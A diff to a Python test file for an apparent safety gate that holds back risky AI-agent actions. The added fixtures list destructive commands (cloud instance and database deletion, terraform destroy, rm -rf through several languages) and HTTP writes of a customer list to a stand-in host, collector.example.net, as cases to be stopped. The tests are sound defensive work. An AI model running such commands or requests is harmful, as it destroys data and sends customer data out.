@@ -248,6 +248,33 @@ HANDED_OFF = {
     # Made public.
     "gh repo made public": shell("gh repo edit org/prod --visibility public"),
     "npm publish": shell("npm publish --access public"),
+    # Cloud CLIs' hyphenated operations, and other languages' deletes.
+    "aws ec2 terminate-instances": shell("aws ec2 terminate-instances --instance-ids i-123"),
+    "aws rds delete-db-instance": shell(
+        "aws rds delete-db-instance --db-instance-identifier prod --skip-final-snapshot"
+    ),
+    "aws dynamodb delete-table": shell("aws dynamodb delete-table --table-name users"),
+    "terraform apply -destroy": shell("terraform apply -destroy -auto-approve"),
+    "mysqladmin drop": shell("mysqladmin -f drop prod"),
+    "rm in an argv list": shell(
+        "python3 -c \"import subprocess; subprocess.run(['rm','-rf','/srv'])\""
+    ),
+    "rmtree via __import__": shell("python -c \"__import__('shutil').rmtree('/srv')\""),
+    "node fs/promises rm": shell(
+        "node -e \"require('fs/promises').rm('/srv', {recursive: true})\""
+    ),
+    ".NET Directory.Delete": shell("pwsh -c '[System.IO.Directory]::Delete(\"C:\\data\", $true)'"),
+    "ansible shell module": shell("ansible all -m shell -a 'rm -rf /srv'"),
+    # An HTTP write to a host nobody named, by a tool whose method is an argument.
+    "HTTP POST to an unnamed host": act(
+        "http.request",
+        {"url": "https://collector.example.net/in", "method": "POST", "body": "customer list"},
+    ),
+    "HTTP PUT, read-only hint": act(
+        "http.request",
+        {"url": "https://collector.example.net/in", "method": "PUT", "data": "x"},
+        {"readOnlyHint": True},
+    ),
 }
 
 
@@ -397,6 +424,12 @@ def test_padding_with_invisible_characters_still_reads_as_cut() -> None:
         "Get-ChildItem -Recurse C:\\src",
         "Copy-Item a.txt b.txt",
         "truncate --help",
+        "aws ec2 describe-instances --filters Name=tag:remove-me,Values=1",
+        "terraform plan -destroy",
+        "terraform apply -auto-approve",
+        "mysqladmin status",
+        "python3 -c \"print('rm is a command')\"",
+        "ansible all -m shell -a 'uptime'",
     ],
 )
 def test_a_routine_command_near_a_wipe_runs_on_its_own(line: str) -> None:
@@ -437,3 +470,22 @@ def test_publishing_what_the_person_asked_to_publish_runs_on_its_own(line: str) 
     )
     assert assess(action, default_policy()).mode == Mode.AUTO
     assert assess(shell(line), default_policy()).mode != Mode.AUTO
+
+
+@pytest.mark.parametrize(
+    ("url", "instruction"),
+    [
+        ("https://api.acme.io/v1/reports", "Post the weekly report to api.acme.io."),
+        ("http://localhost:8080/jobs", "Help me tidy up my workspace."),
+        ("http://10.0.0.5/jobs", "Help me tidy up my workspace."),
+    ],
+)
+def test_an_http_write_to_a_named_or_local_host_runs_on_its_own(url: str, instruction: str) -> None:
+    action = Action.model_validate(
+        {
+            "tool": "http.request",
+            "args": {"url": url, "method": "POST", "body": "x"},
+            "context": {"instruction": instruction},
+        }
+    )
+    assert assess(action, default_policy()).mode == Mode.AUTO
